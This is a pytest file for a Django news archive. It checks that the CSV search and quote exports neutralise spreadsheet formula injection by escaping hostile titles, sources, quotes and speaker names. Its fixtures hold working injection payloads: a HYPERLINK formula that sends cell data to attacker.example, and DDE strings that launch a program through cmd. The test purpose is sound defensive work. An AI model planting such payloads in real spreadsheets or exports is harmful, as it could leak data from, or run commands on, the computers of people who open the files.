"""The CSV exports open in a spreadsheet as text: a hostile title, source, body, quotation or
speaker never becomes a formula (OWASP's CSV injection), and every other cell is unchanged.
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from archive.models import Article, Quote, Source
from archive.quotes.records import update_quotes
from archive.spreadsheets import spreadsheet_text

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for the source")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+2"
CR = "\r=1+2"
# What a spreadsheet takes as the start of a formula, as OWASP lists it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_article():
    article = Article.objects.create(
        title=LINK,
        slug="hostile-csv",
        status=Article.Status.PUBLISHED,
        source=Source.objects.create(name=CALC, slug="hostile-source"),
        authors=MINUS,
        body=(
            f"{PLUS} Kashgar residents said the checkpoints stayed.\n\n"
            '"-1 is what they gave us for a week," Jane Roe said in Kashgar.'
        ),
    )
    update_quotes(article)
    Quote.objects.filter(article=article).update(speaker_name=TAB)
    call_command("update_index", verbosity=0)
    return article


def csv_rows(client, url_name, **params):
    response = client.get(reverse(url_name), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_search_export_writes_hostile_titles_sources_and_snippets_as_text(client, hostile_article):
    header, *rows = csv_rows(client, "search-csv", q="Kashgar")
    assert_no_formula([header, *rows])
    row, second = rows  # Kashgar is in both paragraphs: a row each
    assert dict(zip(header, second, strict=True))["paragraph"] == "2"
    found = dict(zip(header, row, strict=True))
    assert found["title"] == "'" + LINK
    assert found["source"] == "'" + CALC
    assert found["snippet"].startswith("'" + PLUS)
    assert found["citation"].startswith(f"'{CALC}. “{LINK}”.")
    # A cell that starts harmlessly is written as it is.
    assert found["url"] == "http://testserver/articles/hostile-csv/?hl=Kashgar#p-1"


def test_quotes_export_writes_hostile_quotes_speakers_and_titles_as_text(client, hostile_article):
    header, *rows = csv_rows(client, "quote-csv", q="week")
    assert_no_formula([header, *rows])
    (row,) = rows
    found = dict(zip(header, row, strict=True))
    assert found["quote"] == "'-1 is what they gave us for a week"
    assert found["speaker"] == "'" + TAB
    assert found["title"] == "'" + LINK
    assert found["source"] == "'" + CALC


@pytest.mark.parametrize("value", [LINK, CALC, PLUS, MINUS, TAB, CR])
def test_every_formula_start_is_neutralised(value):
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Radio Free Asia", "“=quoted”", " =1+1", "'already quoted", "", 7, None]
)
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_text(value) == ("" if value is None else str(value))


@pytest.mark.parametrize(
    "url_name, params",
    [("search-csv", {"q": "Kashgar"}), ("quote-csv", {"q": "week"})],
)
def test_exports_open_in_a_spreadsheet_as_utf8_with_iso_dates_or_empty_cells(
    client, hostile_article, url_name, params
):
    """A byte-order mark, so Excel reads UTF-8 (curly quotes, accents); a date the archive
    does not know is an empty cell, not words in a column of dates."""
    Article.objects.filter(pk=hostile_article.pk).update(title="“Quoted” in Ürümqi")
    dated = Article.objects.create(
        title="Dated",
        slug="dated-csv",
        status=Article.Status.PUBLISHED,
        published_on="2020-06-17",
        body='"Kashgar was quiet all week," Jane Roe said in Kashgar.',
    )
    update_quotes(dated)
    call_command("update_index", verbosity=0)
    response = client.get(reverse(url_name), params)
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_title = {row["title"]: row for row in rows if row["title"]}
    assert by_title["“Quoted” in Ürümqi"]["date"] == ""
    assert by_title["“Quoted” in Ürümqi"]["source"] == "'" + CALC  # known, made safe
    assert by_title["Dated"]["date"] == "2020-06-17"
    assert by_title["Dated"]["source"] == ""


def test_the_search_export_has_a_row_for_every_matching_paragraph(client):
    article = Article.objects.create(
        title="Three paragraphs",
        slug="three-paragraphs",
        status=Article.Status.PUBLISHED,
        body="Kashgar at dawn.\n\nNothing here.\n\nKashgar at night.\n\nKashgar again, at noon.",
    )
    call_command("update_index", verbosity=0)
    rows = [r for r in csv_rows(client, "search-csv", q="Kashgar") if r and r[0] == article.title]
    header = csv_rows(client, "search-csv", q="Kashgar")[0]
    by_column = [dict(zip(header, row, strict=True)) for row in rows]
    assert [row["paragraph"] for row in by_column] == ["1", "3", "4"]
    assert [row["snippet"] for row in by_column] == [
        "Kashgar at dawn.",
        "Kashgar at night.",
        "Kashgar again, at noon.",
    ]
    for row in by_column:
        assert row["url"].endswith(f"#p-{row['paragraph']}")
        assert f"/three-paragraphs/#p-{row['paragraph']}" in row["citation"]
